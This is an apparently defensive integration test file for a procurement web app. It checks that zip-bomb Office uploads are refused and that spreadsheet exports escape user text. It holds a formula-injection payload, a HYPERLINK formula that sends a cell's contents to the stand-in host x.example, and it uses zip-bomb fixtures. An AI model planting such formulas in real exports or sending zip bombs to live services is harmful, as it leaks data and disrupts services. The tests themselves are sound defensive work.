"""Every upload of an Office file refuses a zip bomb before parsing it, storing nothing; every
spreadsheet export writes people's text as inert text."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select

from tenderflow import clock
from tenderflow.domain.roles import Role
from tenderflow.extensions import db
from tenderflow.models import (
    BidDocument,
    CapitalAttachment,
    CapitalScheme,
    DocumentTemplate,
    EvaluatorScore,
)
from tenderflow.services.capital import priority
from tests.integration import capital_world
from tests.integration.conftest import sign_in_as
from tests.integration.evaluation_world import an_evaluation
from tests.integration.world import build_world
from tests.zip_bombs import zip_bomb

ZIP_BOMB_MESSAGE = "it may be a zip bomb"
HYPERLINK = '=HYPERLINK("https://x.example/?"&B6,"Details")'


def _count(model: Any) -> int:
    return db.session.scalar(select(func.count()).select_from(model)) or 0


def _stored_files(app: Flask) -> list[Path]:
    return [
        path
        for folder in (app.config["UPLOAD_DIR"], app.config["DOCUMENTS_DIR"])
        for path in Path(folder).rglob("*")
        if path.is_file()
    ]


def _upload(
    client: FlaskClient, url: str, field: str, data: bytes, filename: str, **form: str
) -> Any:
    return client.post(
        url,
        data={**form, field: (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )


def test_a_zip_bomb_bid_document_is_refused_and_nothing_stored(
    app: Flask, client: FlaskClient, make_user: Callable[..., Any]
) -> None:
    world = build_world(make_user)
    sign_in_as(client, world["people"][Role.PROCUREMENT_LEAD])
    files, documents = _stored_files(app), _count(BidDocument)
    url = f"/procurements/{world['procurement'].reference}/bids/{world['url_args']['bid_id']}/documents"
    response = _upload(client, url, "file", zip_bomb("docx"), "method.docx")
    assert response.status_code == 400
    assert ZIP_BOMB_MESSAGE in response.get_data(as_text=True)
    assert _count(BidDocument) == documents
    assert _stored_files(app) == files


def test_a_zip_bomb_odt_bid_document_is_refused(
    client: FlaskClient, make_user: Callable[..., Any]
) -> None:
    world = build_world(make_user)
    sign_in_as(client, world["people"][Role.PROCUREMENT_LEAD])
    url = f"/procurements/{world['procurement'].reference}/bids/{world['url_args']['bid_id']}/documents"
    response = _upload(client, url, "file", zip_bomb("odt"), "method.odt")
    assert ZIP_BOMB_MESSAGE in response.get_data(as_text=True)


def test_a_zip_bomb_supporting_document_is_refused_and_nothing_stored(
    app: Flask, client: FlaskClient, make_user: Callable[..., Any]
) -> None:
    world = build_world(make_user)
    officer = world["people"][Role.DISTRICT_OFFICER]
    draft = capital_world.a_scheme(world["capital_round"], officer, "Draft scheme", submit=False)
    sign_in_as(client, officer)
    files, attachments = _stored_files(app), _count(CapitalAttachment)
    response = _upload(
        client, f"/capital/schemes/{draft.id}/documents", "file", zip_bomb("docx"), "plan.docx"
    )
    assert ZIP_BOMB_MESSAGE in response.get_data(as_text=True)
    assert _count(CapitalAttachment) == attachments
    assert _stored_files(app) == files


def test_a_zip_bomb_capital_workbook_is_refused_and_no_scheme_saved(
    client: FlaskClient, make_user: Callable[..., Any]
) -> None:
    world = build_world(make_user)
    sign_in_as(client, world["people"][Role.DISTRICT_OFFICER])
    schemes = _count(CapitalScheme)
    response = _upload(
        client,
        f"/capital/rounds/{world['capital_round'].id}/import",
        "file",
        zip_bomb("xlsx"),
        "schemes.xlsx",
    )
    assert ZIP_BOMB_MESSAGE in response.get_data(as_text=True)
    assert _count(CapitalScheme) == schemes


def test_a_zip_bomb_scoring_workbook_is_refused_and_no_score_saved(
    client: FlaskClient, make_user: Callable[..., Any]
) -> None:
    evaluation = an_evaluation(make_user)
    member = evaluation.evaluators[0]
    sign_in_as(client, member.user)
    response = _upload(
        client,
        f"/evaluations/EVAL-1/panel/{member.id}/workbook/import",
        "workbook",
        zip_bomb("xlsx"),
        "scores.xlsx",
    )
    assert ZIP_BOMB_MESSAGE in response.get_data(as_text=True)
    assert _count(EvaluatorScore) == 0


def test_a_zip_bomb_word_template_is_refused_and_nothing_stored(
    app: Flask, client: FlaskClient, make_user: Callable[..., Any]
) -> None:
    sign_in_as(client, make_user(Role.ADMIN))
    files = _stored_files(app)
    response = _upload(
        client,
        "/admin/templates/",
        "template",
        zip_bomb("docx"),
        "council.docx",
        name="Council papers",
    )
    assert ZIP_BOMB_MESSAGE in response.get_data(as_text=True)
    assert _count(DocumentTemplate) == 0
    assert _stored_files(app) == files


def test_the_priority_list_workbook_writes_a_formula_as_text_and_drops_control_characters(
    client: FlaskClient, make_user: Callable[..., Any]
) -> None:
    world = build_world(make_user)
    people = world["people"]
    round_, scheme = world["capital_round"], world["capital_scheme"]
    scheme.name, scheme.provider = HYPERLINK, "Fen\x0bland Homes"
    capital_world.accept(scheme, people[Role.PARTNERSHIP_OFFICER])
    capital_world.score(scheme, people[Role.SP_SCORER], 4, 4, 3, 4, 3)
    capital_world.close(round_)
    priority.produce_priority_list(db.session, round_, clock.now())
    db.session.commit()
    sign_in_as(client, people[Role.COMMISSIONING_BODY])
    response = client.get(f"/capital/rounds/{round_.id}/priority-list.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    row = next(r for r in sheet.iter_rows(min_row=6) if r[1].value and "HYPERLINK" in r[1].value)
    assert row[1].value == "'" + HYPERLINK and row[1].data_type == "s"
    assert row[3].value == "Fenland Homes"
    assert row[7].data_type == "n"  # money stays a number


def test_a_scoring_workbook_writes_a_comment_as_text_and_reads_it_back_unchanged(
    client: FlaskClient, make_user: Callable[..., Any]
) -> None:
    evaluation = an_evaluation(make_user)
    member = evaluation.evaluators[0]
    sign_in_as(client, member.user)
    bid = evaluation.bid("Harbour Light Housing Trust")
    saved = client.post(
        "/evaluations/EVAL-1/criteria/Q1/scores",
        data={f"score-{bid.id}": "4", f"comment-{bid.id}": HYPERLINK},
    )
    assert saved.status_code == 302
    download = client.get(f"/evaluations/EVAL-1/panel/{member.id}/workbook")
    book = openpyxl.load_workbook(io.BytesIO(download.data))
    cell = next(r[4] for r in book["Scores"].iter_rows(min_row=2) if r[1].value == "Q1")
    assert cell.value == "'" + HYPERLINK and cell.data_type == "s"
    out = io.BytesIO()
    book.save(out)
    imported = _upload(
        client,
        f"/evaluations/EVAL-1/panel/{member.id}/workbook/import",
        "workbook",
        out.getvalue(),
        "scores.xlsx",
    )
    assert imported.status_code == 302, imported.get_data(as_text=True)[-1500:]
    db.session.expire_all()
    comments = set(db.session.scalars(select(EvaluatorScore.comment)))
    assert HYPERLINK in comments
